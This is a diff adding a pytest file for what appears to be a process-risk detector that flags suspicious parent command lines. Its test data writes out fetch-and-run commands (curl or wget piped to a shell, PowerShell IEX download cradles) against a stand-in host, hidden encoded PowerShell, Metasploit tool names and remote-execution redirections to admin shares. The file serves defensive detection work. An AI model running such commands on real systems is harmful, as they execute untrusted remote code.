@@ -1,0 +1,94 @@
+"""What the parent's own command line says about what it starts."""
+
+from __future__ import annotations
+
+import pytest
+from codesignrisk_core.model import Report
+from codesignrisk_core.process import starters
+from codesignrisk_core.process.parents import Parent
+
+SHELL = Parent("bash", "shell", False)
+
+
+def found(line: str, parent: Parent = SHELL) -> dict[str, str]:
+    report = Report()
+    starters.judge(report, line.lower(), parent)
+    return dict(report.findings)
+
+
+FETCHED = "parent_script_fetched"
+HIDDEN = "parent_hidden_encoded"
+PLACE = "parent_script_place"
+TOOL = "parent_fake_tool"
+
+
+@pytest.mark.parametrize(
+    ("line", "indicators"),
+    [
+        # a script straight from the web
+        ("bash -c curl -s http://h.example/i.sh | bash", [FETCHED]),
+        ("sh -c 'wget -qO- https://h.example/i | sudo sh'", [FETCHED]),
+        ("/bin/sh -c curl -fsSL https://h.example/i | /bin/zsh", [FETCHED]),
+        ('bash -c "$(curl -fsSL https://h.example/i.sh)"', [FETCHED]),
+        ("powershell iex (iwr https://h.example/a.ps1)", [FETCHED]),
+        ("powershell -c irm https://h.example/a.ps1 | iex", [FETCHED]),
+        ("powershell IEX(New-Object Net.WebClient).DownloadString('http://h.example/a')", [FETCHED]),
+        ("bash -c curl -o a.sh https://h.example/a.sh; less a.sh", []),
+        ("bash -c curl -s https://h.example/a.json | jq .x", []),
+        ("bash -c curl -s https://h.example/a | shasum", []),
+        # without a window, in Base64
+        ("powershell -nop -w hidden -enc SQBFAFgA", [HIDDEN]),
+        ("powershell.exe -WindowStyle Hidden -EncodedCommand SQBFAFgAIAA=", [HIDDEN]),
+        ("powershell.exe -NonInteractive -EncodedCommand SQBFAFgAIAA=", []),
+        ("powershell.exe -w hidden -file C:\\tools\\a.ps1", []),
+        # scripts in nobody's place
+        ("cmd /c C:\\Users\\Public\\run.bat", [PLACE]),
+        ('powershell -ep bypass -File "C:\\Windows\\Temp\\a.ps1"', [PLACE]),
+        ("python3 /tmp/x.py", [PLACE]),
+        ("bash /Volumes/Setup Disk/Install.file", [PLACE]),
+        ("bash /Users/mia/build.sh", []),
+        ("cmd /c C:\\Users\\mia\\Downloads\\build.bat", []),  # a developer's place too
+        ("/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1.2/AnsiballZ_command.py", []),
+        ("C:\\tools\\app.exe C:\\Users\\Public\\run.bat", []),
+        # tools of attackers behind their interpreter
+        ("ruby /usr/bin/msfvenom -x a.apk -o b.apk", [TOOL]),
+        ("/opt/metasploit/msfconsole -q", [TOOL]),
+        ("ruby /usr/bin/msfvenomous", []),
+        ("", []),
+    ],
+)
+def test_what_the_line_says(line: str, indicators: list[str]) -> None:
+    assert list(found(line)) == indicators
+
+
+def test_sentences() -> None:
+    assert found("bash -c curl -s http://h.example/i.sh | bash") == {
+        FETCHED: "bash runs a script straight from the web"
+    }
+    assert found("cmd /c C:\\Users\\Public\\run.bat", Parent("cmd.exe", "shell", True)) == {
+        PLACE: "cmd.exe runs run.bat out of a place where any user may write"
+    }
+
+
+@pytest.mark.parametrize(
+    ("line", "parent_class"),
+    [
+        ("cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1733 2>&1", "remote"),
+        ("cmd.exe /Q /c whoami > \\\\127.0.0.1\\C$\\__output 2>&1", "remote"),
+        ("cmd.exe /C whoami > C:\\Windows\\Temp\\QwErTyUi.tmp 2>&1", "remote"),
+        ("cmd.exe /c dir > \\\\127.0.0.1\\C$\\list.txt", "shell"),
+        ("cmd.exe", "shell"),
+    ],
+)
+def test_the_hand_of_a_remote_runner(line: str, parent_class: str) -> None:
+    assert starters.remote(line.lower(), SHELL).parent_class == parent_class
+
+
+def test_only_a_shell_is_somebodys_hand() -> None:
+    build = Parent("msbuild.exe", "build", False)
+    assert starters.remote("x 1> \\\\127.0.0.1\\admin$\\__1", build) == build
+
+
+def test_long_lines_take_linear_time() -> None:
+    assert found("curl " * 1_600 + "wget | x") == {}
+    assert found("iex " * 20_000) == {}
